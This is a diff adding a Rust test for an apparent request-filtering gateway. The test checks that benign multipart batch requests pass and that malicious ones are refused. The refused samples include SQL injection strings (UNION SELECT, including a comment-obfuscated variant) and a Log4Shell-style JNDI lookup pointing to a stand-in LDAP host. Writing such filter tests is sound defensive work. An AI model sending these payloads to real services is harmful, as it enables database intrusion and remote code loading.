@@ -258,3 +258,35 @@ fn a_refused_stream_is_the_clients_fault_and_not_the_upstreams() {
         assert_eq!(status(&gate.ask("POST", "/stream", &headers, b"abc")), expected, "{coding}");
     }
 }
+
+#[test]
+fn a_batch_of_requests_is_read_as_requests() {
+    let upstream = Recorder::plain();
+    let gate = Running::start("", &[upstream.url()]);
+    let batch = |line: &str, fields: &str, body: &str| {
+        format!(
+            "--B\r\nContent-Type: application/http\r\nContent-ID: <a@b.example>\r\n\r\n{line} HTTP/1.1\r\n{fields}\r\n{body}\r\n--B--\r\n"
+        )
+    };
+    let passed = [
+        batch("GET /customers/1", "Host: api.example\r\nAccept: application/json\r\n", ""),
+        batch(
+            "POST /customers",
+            "Content-Type: application/json\r\nContent-Length: 14\r\n",
+            "{\"name\":\"Ada\"}",
+        ),
+    ];
+    let refused = [
+        batch(
+            "POST /customers",
+            "Content-Type: application/json\r\n",
+            "{\"name\":\"x' UNION SELECT 1,2-- \"}",
+        ),
+        batch("GET /customers/1", "Host: a\r\nX-Note: ${jndi:ldap://a.example/a}\r\n", ""),
+        batch("GET /customers?id=1'/**/UNION/**/SELECT/**/1,2--", "Host: a\r\n", ""),
+    ];
+    let of_kind = |bodies: &[String]| -> Vec<(&'static str, Vec<u8>)> {
+        bodies.iter().map(|body| ("multipart/mixed; boundary=B", body.clone().into_bytes())).collect()
+    };
+    check(&gate, &upstream, "/$batch", &of_kind(&refused), &of_kind(&passed));
+}
